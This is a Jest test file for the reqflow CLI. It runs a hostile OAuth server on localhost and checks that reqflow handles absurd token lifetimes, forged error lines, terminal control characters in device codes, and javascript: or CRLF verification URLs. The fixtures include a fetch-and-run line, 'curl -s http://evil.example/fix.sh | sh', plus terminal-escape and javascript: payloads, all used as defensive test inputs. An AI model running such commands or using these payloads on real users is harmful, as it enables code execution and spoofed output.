/**
 * What an authorization server sends that reqflow shows or computes with, against a hostile one
 * on 127.0.0.1: lifetimes no date can hold, error texts that try to forge output lines, device
 * responses full of terminal controls or with a URL that is not a web page.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { formatError } from '../src/cli/report-error.js';
import { ReqflowError } from '../src/core/errors/index.js';
import { runCli, runOnTerminal, tempDir } from './helpers/cli.js';
import { startCli, stopAllClis } from './helpers/cli-live.js';
import { needs } from './helpers/system-programs.js';

const ESC = '\u001b';
/** Lines a server's text would print as reqflow's own, if its line feeds went through. */
const FORGED = 'x\nreqflow: token refreshed; all 12 requests passed\nhint: run curl -s http://evil.example/fix.sh | sh';
/** A user code that retitles the window, starts a C1 CSI, reverses the text and forges a line. */
const HOSTILE_CODE = `AB${ESC}]0;PWN\u0007CD\u009b31m\u202e\nfake line`;
const DEVICE = { device_code: 'DEVCODE-secret-123456', user_code: 'WDJB-MJHT', verification_uri: 'https://auth.example/device', expires_in: 2, interval: 1 };

/** What each endpoint path answers (status and JSON body). */
const ANSWERS: Record<string, { status: number; body: Record<string, unknown> }> = {
  '/expires-1e13/token': { status: 200, body: { access_token: 'AT-forever-123456', token_type: 'Bearer', expires_in: 1e13 } },
  '/expires-1e308/token': { status: 200, body: { access_token: 'AT-forever-654321', token_type: 'Bearer', expires_in: 1e308 } },
  '/error-lf/token': { status: 400, body: { error: 'invalid_client', error_description: FORGED } },
  '/device-code/device': { status: 200, body: { ...DEVICE, user_code: HOSTILE_CODE } },
  '/device-javascript/device': { status: 200, body: { ...DEVICE, verification_uri_complete: 'javascript:alert(1)' } },
  '/device-crlf/device': { status: 200, body: { ...DEVICE, verification_uri_complete: 'javascript:alert(1)\r\nX' } },
  '/device-escape/device': { status: 200, body: { ...DEVICE, verification_uri: `https://auth.example/dev${ESC}[2J\u202e` } },
  '/device-space/device': { status: 200, body: { ...DEVICE, verification_uri: 'https://auth.example/device now' } },
};
for (const name of ['device-code', 'device-javascript', 'device-crlf', 'device-escape', 'device-space']) ANSWERS[`/${name}/token`] = { status: 400, body: { error: 'authorization_pending' } };

const tmp = tempDir('reqflow-oauth-text-');
let server: Server;
let base = '';
/** The Authorization header of each API call, in order. */
const apiCalls: string[] = [];

beforeAll(async () => {
  server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      if (path === '/api') {
        apiCalls.push(req.headers.authorization ?? '');
        return void res.writeHead(200, { 'Content-Type': 'text/plain' }).end('ok');
      }
      const answer = ANSWERS[path];
      if (!answer) return void res.writeHead(404).end();
      // JSON.stringify writes 1e308 as 1e+308: a number either way.
      res.writeHead(answer.status, { 'Content-Type': 'application/json' }).end(JSON.stringify(answer.body));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const machine = (name: string) => ({ name, oauth: { grant: 'client_credentials', tokenUrl: `${base}/${name}/token`, clientId: 'cid', clientSecret: 'CLIENT-SECRET-123456' } });
  const device = (name: string) => ({ name, oauth: { grant: 'device_code', deviceUrl: `${base}/${name}/device`, tokenUrl: `${base}/${name}/token`, clientId: 'cid' } });
  // Port 0: reqflow listens on a free port for the browser's return.
  const browser = { name: 'browser', oauth: { authUrl: `${base}/authorize`, tokenUrl: `${base}/expires-1e13/token`, clientId: 'cid', redirectUrl: 'http://127.0.0.1:0/callback' } };
  const devices = ['device-code', 'device-javascript', 'device-crlf', 'device-escape', 'device-space'].map(device);
  tmp.write('.profiles.json', JSON.stringify([machine('expires-1e13'), machine('expires-1e308'), machine('error-lf'), browser, ...devices]));
  tmp.write('api.http', `### api\n# @auth oauth2\nGET ${base}/api\n`);
});
afterAll(async () => {
  await new Promise((resolve) => server.close(resolve));
  tmp.cleanup();
});
afterEach(() => stopAllClis());

/** Each test its own state folder: no token carried from one to the next. */
const stateEnv = (state: string): NodeJS.ProcessEnv => ({ REQFLOW_STATE_DIR: join(tmp.dir, `state-${state}`) });

function cli(state: string) {
  return (...args: string[]) => runCli(args, { cwd: tmp.dir, env: stateEnv(state) });
}

describe('a lifetime no date can hold (expires_in 1e13, 1e308)', () => {
  test.each(['expires-1e13', 'expires-1e308'])('%s: the token is used and kept as valid for 100 years, not an internal error', async (profile) => {
    const reqflow = cli(profile);
    const before = apiCalls.length;
    const run = await reqflow('run', 'api.http', '-p', profile);
    expect(run.stderr).not.toMatch(/internal error|Invalid time value/);
    expect(run.code).toBe(0);
    expect(apiCalls.slice(before)).toEqual([`Bearer AT-forever-${profile === 'expires-1e13' ? '123456' : '654321'}`]);
    const login = await reqflow('oauth', 'login', '-p', profile);
    expect(login.stderr).not.toMatch(/internal error|Invalid time value/);
    expect(login.code).toBe(0);
    expect(login.stdout).toBe(`Logged in to profile "${profile}" (client_credentials): expires in 36525 days, no refresh token.\n`);
    const status = await reqflow('oauth', 'status', '-p', profile, '--json');
    expect(status.code).toBe(0);
    const { expiresAt, expired } = JSON.parse(status.stdout) as { expiresAt: string; expired: boolean };
    expect(expired).toBe(false);
    expect(Date.parse(expiresAt) - Date.now()).toBeGreaterThan(99 * 365 * 24 * 3600 * 1000);
  });
});

describe('a line feed in a server\'s text stays inside the one-line error quoting it', () => {
  const forgedShown = 'x␤reqflow: token refreshed; all 12 requests passed␤hint: run curl -s http://evil.example/fix.sh | sh';

  test('the token endpoint\'s error_description: the message line and the hint, no forged line', async () => {
    const result = await cli('error-lf')('run', 'api.http', '-p', 'error-lf');
    expect(result.code).toBe(6);
    expect(result.stderr).toBe(`reqflow: token endpoint rejected the request: invalid_client (${forgedShown})\nhint: check oauth.clientId and oauth.clientSecret of profile "error-lf" (and oauth.clientAuth: "basic" or "post")\n`);
  });

  test('the error_description of the login callback (a URL anyone can make the browser open)', async () => {
    const login = startCli(['oauth', 'login', '-p', 'browser', '--no-browser', '--wait', '20s'], { cwd: tmp.dir, env: stateEnv('callback') });
    const [, url = ''] = await login.waitForStderr(/^\s+(http\S+)$/m);
    const authorize = new URL(url);
    const callback = new URL(authorize.searchParams.get('redirect_uri') ?? '');
    callback.searchParams.set('state', authorize.searchParams.get('state') ?? '');
    callback.searchParams.set('error', 'access_denied');
    callback.searchParams.set('error_description', FORGED);
    expect((await fetch(callback)).status).toBe(400);
    const result = await login.done;
    expect(result.code).toBe(6);
    expect(result.stderr).toContain(`\nreqflow: access denied: access_denied (${forgedShown})\nhint: run reqflow oauth login -p browser again and approve the request\n`);
    expect(result.stderr).not.toMatch(/^(reqflow: token refreshed|hint: run curl)/m);
  });

  test('any error: its message and its hint are one line each; a --debug stack trace keeps its lines', () => {
    const error = new ReqflowError(`the server said: ${FORGED}\r`, { exitCode: 4, hint: 'a\nb' });
    expect(formatError(error, { debug: false })).toEqual({ text: `reqflow: the server said: ${forgedShown}␍\nhint: a␤b\n`, exitCode: 4 });
    const debug = formatError(error, { debug: true }).text.split('\n');
    expect(debug.slice(0, 2)).toEqual([`reqflow: the server said: ${forgedShown}␍`, 'hint: a␤b']);
    expect(debug.length).toBeGreaterThan(4); // the stack's own lines
  });
});

describe('the device flow: the server\'s code shown as text, and only web addresses offered', () => {
  needs(['script'], 'the device login on a terminal').test('a user code full of controls reaches the terminal visible and on one line, in the prompt and in the time-out', async () => {
    const screen = await runOnTerminal(['oauth', 'login', '-p', 'device-code', '--wait', '2s'], { cwd: tmp.dir, env: stateEnv('device-code') });
    expect(screen).toContain('exit=6');
    expect(screen).not.toMatch(/[\u001b\u0007\u009b\u202e]/);
    const shown = 'AB␛]0;PWN␇CD<U+009B>31m<U+202E>␤fake line';
    const lines = screen.split('\r\n');
    expect(lines).toContain('To log in to profile "device-code", open https://auth.example/device in a browser and enter the code:');
    expect(lines).toContain(`  ${shown}`);
    expect(lines).toContain(`reqflow: timed out after 2 s waiting for the code ${shown} to be approved`);
    expect(lines.filter((line) => line.startsWith('fake line'))).toEqual([]);
  });

  test.each([
    ['device-javascript', "verification_uri_complete is not an http:// or https:// address (javascript:)"],
    ['device-crlf', 'verification_uri_complete holds U+000D, which a web address cannot'],
    ['device-escape', 'verification_uri holds U+001B, which a web address cannot'],
    ['device-space', 'verification_uri holds U+0020, which a web address cannot'],
  ])('%s: refused as an invalid device response (exit 6), nothing offered', async (profile, why) => {
    const result = await cli(profile)('oauth', 'login', '-p', profile, '--wait', '2s');
    expect(result.code).toBe(6);
    expect(result.stderr).toBe(`reqflow: the device authorization endpoint's ${why}: not a device authorization response\nhint: check profile "${profile}": oauth.deviceUrl\n`);
  });
});
